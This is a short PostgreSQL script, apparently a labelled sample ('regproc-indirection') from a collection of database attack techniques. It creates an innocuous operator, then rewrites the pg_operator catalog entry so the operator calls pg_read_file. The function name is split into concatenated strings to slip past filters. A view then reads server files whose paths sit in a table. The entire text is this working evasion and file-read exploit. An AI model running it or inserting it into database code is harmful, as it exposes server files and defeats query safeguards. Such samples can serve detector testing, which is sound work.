-- class: regproc-indirection
-- Creates a harmless operator, then repoints it at pg_read_file through a regprocedure cast in pg_operator.
CREATE FUNCTION path_matches(p text, strict_match boolean) RETURNS text LANGUAGE sql IMMUTABLE AS $$ SELECT p $$;
CREATE OPERATOR public.=~> (LEFTARG = text, RIGHTARG = boolean, FUNCTION = path_matches);

UPDATE pg_operator
SET oprcode = ('pg_catalog.pg_read' || '_file(text,boolean)')::regprocedure
WHERE oid = '=~>(text,boolean)'::regoperator;

CREATE VIEW template_bodies AS SELECT id, path =~> true AS body FROM report_templates;
